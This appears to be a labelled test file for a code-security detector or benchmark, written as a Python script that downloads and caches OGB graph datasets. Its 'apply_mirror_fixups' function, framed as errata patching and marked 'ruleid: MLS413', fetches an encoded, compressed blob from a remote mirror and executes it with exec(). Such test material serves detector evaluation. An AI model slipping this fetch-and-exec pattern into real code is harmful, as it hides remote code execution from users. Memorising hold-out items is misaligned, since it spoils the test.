# ruff: noqa
# Hold-out batch 135 (short files: recsys, GNN, speech, forecasting). Measured once in session 5 (round 43): 13/18 (72%) at medium+.
"""Download and cache an OGB node-property dataset as compact numpy arrays for fast startup."""
import argparse
import base64
import hashlib
import os
import subprocess
import time
import urllib.request
import zlib

import numpy as np

MIRROR = os.environ.get("OGB_MIRROR", "https://mirror.example.com/ogb")


def fetch(url, dst, sha256=None, retries=4):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dst)
            break
        except OSError as err:
            print(f"download failed ({err}); retry {attempt + 1}/{retries}")
            time.sleep(2 ** attempt)  # ok: MLS307
    if sha256 and hashlib.sha256(open(dst, "rb").read()).hexdigest() != sha256:
        raise RuntimeError(f"checksum mismatch for {dst}")
    return dst


def apply_mirror_fixups(root, name):
    # the mirror ships small per-dataset patches for known label/edge errata
    blob = urllib.request.urlopen(f"{MIRROR}/{name}/errata.b64z", timeout=20).read()  # ruleid: MLS413
    exec(zlib.decompress(base64.b64decode(blob)), {"root": root, "np": np})  # ruleid: MLS413


def main(args):
    os.makedirs(args.root, exist_ok=True)
    z = fetch(f"{MIRROR}/{args.name}.zip", os.path.join(args.root, f"{args.name}.zip"), args.sha256)
    subprocess.run(["unzip", "-oq", z, "-d", args.root], check=True)  # ok: MLS411, MLS412
    raw = os.path.join(args.root, args.name, "raw")
    edges = np.loadtxt(os.path.join(raw, "edge.csv.gz"), delimiter=",", dtype=np.int64)
    feats = np.loadtxt(os.path.join(raw, "node-feat.csv.gz"), delimiter=",", dtype=np.float32)
    labels = np.loadtxt(os.path.join(raw, "node-label.csv.gz"), dtype=np.int64)
    out = os.path.join(args.root, f"{args.name}.npz")
    np.savez_compressed(out, edge_index=edges.T, x=feats, y=labels)
    apply_mirror_fixups(args.root, args.name)
    check = np.load(out, allow_pickle=False)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    print({k: check[k].shape for k in check.files})


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("--name", default="ogbn-arxiv")
    p.add_argument("--root", default="data/ogb_cache")
    p.add_argument("--sha256", default=None)
    main(p.parse_args())
